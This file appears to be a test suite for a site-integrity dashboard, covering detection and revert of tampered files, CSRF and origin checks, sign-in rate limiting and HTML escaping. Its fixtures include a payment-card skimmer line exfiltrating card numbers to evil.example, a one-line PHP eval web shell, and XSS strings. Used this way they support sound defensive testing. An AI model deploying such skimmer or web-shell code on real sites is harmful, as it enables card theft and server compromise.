// The dashboard's pages in process over a real app (SQLite, a real site folder and encrypted
// repository): file changes, a diff, the revert confirmation that shows what will be written,
// the revert itself (CSRF and the seen hash enforced), password sign-in with its rate limit,
// and the traffic page's chart data and escaping.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createApp, type App } from '../../../src/app/context.ts';
import { loadConfig } from '../../../src/app/config.ts';
import { createLoginLink, setDashboardPassword } from '../../../src/app/tokens.ts';
import { integrityBaseline, integrityContextIn } from '../../../src/app/integrity.ts';
import { runIngest } from '../../../src/app/logs.ts';
import { createApi } from '../../../src/http/api.ts';

const good = "define(['jquery'], function ($) {\n  return { pay: function () { return true; } };\n});\n";
const skimmer = `${good}var s=document.createElement('img');s.src='https://evil.example/c?d='+btoa(document.getElementById('cc_number').value);\n`;

async function signIn(app: App, api: ReturnType<typeof createApi>): Promise<{ cookie: string; csrf: string }> {
  const { url } = await createLoginLink(app);
  const res = await api.request(new URL(url).pathname + new URL(url).search);
  assert.equal(res.status, 303);
  const cookie = (res.headers.get('set-cookie') ?? '').split(';')[0] as string;
  const home = await (await api.request('/', { headers: { Cookie: cookie } })).text();
  const csrf = /name="csrf" value="([^"]+)"/.exec(home)?.[1];
  assert.ok(csrf !== undefined, 'the overview carries a CSRF token');
  return { cookie, csrf };
}

test('file changes, diff, confirmation and revert from the dashboard', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-dashf-'));
  const site = join(dir, 'site');
  const js = join(site, 'pub', 'payment.js');
  mkdirSync(join(site, 'pub'), { recursive: true });
  writeFileSync(js, good);
  writeFileSync(
    join(dir, 'ripcord.yml'),
    `stateDir: ./state\nsite: { name: Shop, root: ./site }\nrepository: { passphrase: test-only }\nhttp: { listen: "127.0.0.1:1" }\n`,
  );
  const app = createApp(loadConfig({ cwd: dir }));
  try {
    await integrityBaseline(integrityContextIn(app));
    writeFileSync(js, skimmer);
    writeFileSync(join(site, 'pub', '<img src=x onerror=alert(1)>.php'), '<?php eval($_POST["x"]);');
    const api = createApi(app);
    const { cookie, csrf } = await signIn(app, api);
    const get = (p: string) => api.request(p, { headers: { Cookie: cookie } });
    const post = (p: string, form: Record<string, string>, origin = 'http://localhost') =>
      api.request(p, {
        method: 'POST',
        headers: { Cookie: cookie, 'Content-Type': 'application/x-www-form-urlencoded', Origin: origin },
        body: new URLSearchParams(form).toString(),
      });

    const list = await (await get('/files')).text();
    assert.match(list, /File changes \(2\)/);
    assert.match(list, /pub\/payment\.js/);
    assert.match(list, /&lt;img src=x onerror=alert\(1\)&gt;\.php/);
    assert.doesNotMatch(list, /<img src=x/);

    const diff = await (await get(`/files/diff?p=${encodeURIComponent(js)}`)).text();
    assert.match(diff, /<span class="add">\+var s=document\.createElement\(&#39;img&#39;\)/);
    assert.match(diff, /Revert…/);

    const confirm = await (await get(`/files/revert?p=${encodeURIComponent(js)}`)).text();
    assert.match(confirm, new RegExp(`Will write <strong>${Buffer.byteLength(good)} bytes</strong>`));
    assert.match(confirm, /<span class="del">-var s=document/);
    assert.equal(readFileSync(js, 'utf8'), skimmer, 'the confirmation page writes nothing');
    const expect = /name="expect" value="([0-9a-f]{64})"/.exec(confirm)?.[1] as string;

    // without the CSRF token, or from another origin: refused, nothing written
    assert.equal((await post('/files/revert', { p: js, expect })).status, 403);
    assert.equal((await post('/files/revert', { p: js, expect, csrf }, 'https://evil.example')).status, 403);
    // the file changed since it was shown: refused
    assert.equal((await post('/files/revert', { p: js, expect: 'a'.repeat(64), csrf })).status, 409);
    assert.equal(readFileSync(js, 'utf8'), skimmer);

    const done = await post('/files/revert', { p: js, expect, csrf });
    assert.equal(done.status, 200);
    assert.match(await done.text(), /<h1>Reverted<\/h1>/);
    assert.equal(readFileSync(js, 'utf8'), good);
    assert.match(await (await get('/files')).text(), /File changes \(1\)/);
    const audit = readFileSync(join(dir, 'state', 'http-audit.jsonl'), 'utf8');
    assert.match(audit, /"path":"\/files\/revert [^"]*payment\.js","status":200/);
  } finally {
    await app.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('password sign-in: wrong passwords are rate-limited per address, the right one opens a session', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-dashp-'));
  writeFileSync(join(dir, 'ripcord.yml'), 'stateDir: ./state\nhttp: { listen: "127.0.0.1:1" }\n');
  const app = createApp(loadConfig({ cwd: dir }));
  try {
    const api0 = createApi(app);
    assert.doesNotMatch(
      await (await api0.request('/')).text(),
      /type="password"/,
      'no password form before anyone has one',
    );
    await assert.rejects(setDashboardPassword(app, 'owner', 'short'), /at least 12 characters/);
    await setDashboardPassword(app, 'owner', 'correct horse battery');
    const api = createApi(app);
    const login = (user: string, password: string) =>
      api.request('/login', {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ user, password }).toString(),
      });
    assert.match(await (await api.request('/')).text(), /type="password"/, 'the password form once a user has one');
    const first = await login('owner', 'correct horse battery');
    assert.equal(first.status, 303);
    assert.match(first.headers.get('set-cookie') ?? '', /rc_session=.*HttpOnly.*Secure.*SameSite=Strict/);
    for (let i = 0; i < 5; i++) assert.equal((await login('owner', `wrong ${i}`)).status, 401);
    assert.equal((await login('nobody', 'x')).status, 429);
    const limited = await login('owner', 'correct horse battery');
    assert.equal(limited.status, 429, 'even the right password waits once the limit is reached');
    assert.ok(Number(limited.headers.get('retry-after')) > 0);
  } finally {
    await app.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the traffic page: chart data as numbers, hostile text escaped, bad filters named', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-dasht-'));
  const now = Date.now();
  const stamp = (ms: number) =>
    new Date(ms).toUTCString().replace(/^\w+, (\d+) (\w+) (\d+) ([\d:]+) GMT$/, '$1/$2/$3:$4 +0000');
  writeFileSync(
    join(dir, 'access.log'),
    [
      `198.51.100.7 - - [${stamp(now - 3_600_000)}] "GET /checkout HTTP/1.1" 200 10 "-" "Mozilla/5.0"`,
      `198.51.100.7 - - [${stamp(now - 3_500_000)}] "GET /nope HTTP/1.1" 404 10 "-" "<script>alert(1)</script>"`,
      `203.0.113.9 - - [${stamp(now - 60_000)}] "POST /admin HTTP/1.1" 500 10 "-" "curl"`,
      '',
    ].join('\n'),
  );
  writeFileSync(join(dir, 'ripcord.yml'), 'stateDir: ./state\nhttp: { listen: "127.0.0.1:1" }\n');
  const loaded = loadConfig({ cwd: dir });
  await runIngest(loaded, { files: [join(dir, 'access.log')], format: 'nginx', detect: false });
  const app = createApp(loaded);
  try {
    const api = createApi(app);
    const { cookie } = await signIn(app, api);
    const res = await api.request('/traffic', { headers: { Cookie: cookie } });
    assert.match(res.headers.get('content-security-policy') ?? '', /script-src 'self'/);
    const page = await res.text();
    const attr = /data-series="([^"]*)"/.exec(page)?.[1] ?? '';
    const series = JSON.parse(attr.replaceAll('&quot;', '"')) as Record<string, number[]>;
    const sum = (k: string) => (series[k] ?? []).reduce((a, b) => a + b, 0);
    assert.deepEqual([sum('s2xx'), sum('s4xx'), sum('s5xx')], [1, 1, 1]);
    assert.equal(series['time']?.length, series['s2xx']?.length);
    assert.match(page, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.doesNotMatch(page, /<script>alert/);
    assert.match(page, /<script src="\/static\/uplot\.js" defer><\/script>/);
    const filtered = await (await api.request('/traffic?status=404', { headers: { Cookie: cookie } })).text();
    assert.match(filtered, /GET \/nope/);
    assert.doesNotMatch(filtered, /POST \/admin<\/td>/);
    const bad = await (await api.request('/traffic?status=abc&ip=x%3Cy', { headers: { Cookie: cookie } })).text();
    assert.match(bad, /statuses are numbers from 100 to 599/);
    assert.match(bad, /the address is not an IP address/);
    const js = await api.request('/static/uplot.js');
    assert.equal(js.status, 200);
    assert.match(await js.text(), /uPlot/);
  } finally {
    await app.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
